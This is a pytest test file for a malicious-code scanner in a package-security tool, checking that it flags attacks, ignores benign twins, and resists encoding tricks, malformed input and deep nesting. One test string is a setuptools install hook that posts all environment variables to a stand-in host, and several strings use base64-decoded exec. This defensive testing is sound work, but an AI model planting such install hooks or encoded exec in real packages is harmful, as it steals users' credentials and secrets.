"""Sources: each attack, written inert, beside a benign twin that uses the same words."""

import ast
import contextlib
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jingwei.documents import load_yaml
from jingwei.layers.tools.packages.sources.examine import examine
from jingwei.limits import Limits

CASES = load_yaml(Path(__file__).with_name("cases.yaml").read_bytes())
ATTACKS = {name: (case["source"], case["rule"]) for name, case in CASES["attacks"].items()}
BENIGN = CASES["benign"]


def rules(source, **options):
    return {found.rule for found in examine(source.encode(), **options)}


@pytest.mark.parametrize("name", ATTACKS)
def test_attack(name):
    source, rule = ATTACKS[name]
    assert rule in rules(source)


@pytest.mark.parametrize("name", BENIGN)
def test_benign_twin(name):
    assert rules(BENIGN[name]) == set()


def test_installers_call_every_method_of_a_setup_file():
    source = (
        "from setuptools.command.install import install\nimport os, requests\nclass I(install):\n    def run(self):\n"
        "        requests.post('https://x.invalid', data=dict(os.environ))\n"
    )
    assert rules(source) == {"code.exfiltration-likely"}
    assert rules(source, everything_starts=True) == {"code.exfiltration"}


def test_the_place_is_told():
    (found,) = examine(b"import base64\n\n\nexec(base64.b64decode('cA=='))\n")
    assert (found.line, found.name) == (4, "exec")


def test_what_cannot_be_examined_is_unproved():
    assert rules("import base64\nexec(base64.b64decode(") == {"code.unparsed"}
    assert {found.rule for found in examine(b"exec(base64\0")} <= {"code.unparsed"}
    large = b"import base64\nexec(base64.b64decode('cA=='))\n"
    assert [found.rule for found in examine(large, limits=Limits(source_bytes=10))] == ["code.skipped"]


def test_other_encodings_hide_nothing():
    source = "# coding: utf-16\nimport base64\nexec(base64.b64decode('cA=='))\n"
    assert examine(source.encode("utf-16"))
    assert rules("# coding: rot13\nvzcbeg bf\n") == {"code.unparsed"}


@pytest.mark.parametrize(
    "source",
    [
        "exec(" + "(" * 5000 + ")" * 5000 + ")", "x = " + "-" * 20_000 + "1\nexec(b64decode)", "exec(b64decode(" + "'a'+" * 3000 + "'b'))",
        "import base64\n" + "x = x + base64.b64decode('cA==')\n" * 400 + "exec(x)", "exec(base64" + ".a" * 3000 + ")",
        "import base64\n" + "".join(f"def f{n}(x):\n    return f{n + 1}(x)\n" for n in range(400)) + "exec(base64.b64decode(f0(1)))",
    ],
    ids=["brackets", "signs", "sum", "statements", "attributes", "functions"],
)  # fmt: skip
def test_depth_and_length_cost_what_they_are_long(source):
    before = time.process_time()
    examine(source.encode())
    assert time.process_time() - before < 2


SEEDS = [source for source, _ in ATTACKS.values()]


@settings(max_examples=25, deadline=None)
@given(st.sampled_from(SEEDS), st.data())
def test_damage_gives_problems_or_nothing(source, data):
    content = bytearray(source.encode())
    for _ in range(data.draw(st.integers(1, 4))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    examine(bytes(content))


@settings(max_examples=30, deadline=None)
@given(st.sampled_from([source for source, _ in ATTACKS.values()]), st.sampled_from(list(BENIGN.values())))
def test_what_stands_before_and_after_hides_nothing(attack, benign):
    before = rules(attack)
    with contextlib.suppress(SyntaxError):
        ast.parse(benign)
    assert before <= rules(f"{attack}\n{benign}\n")
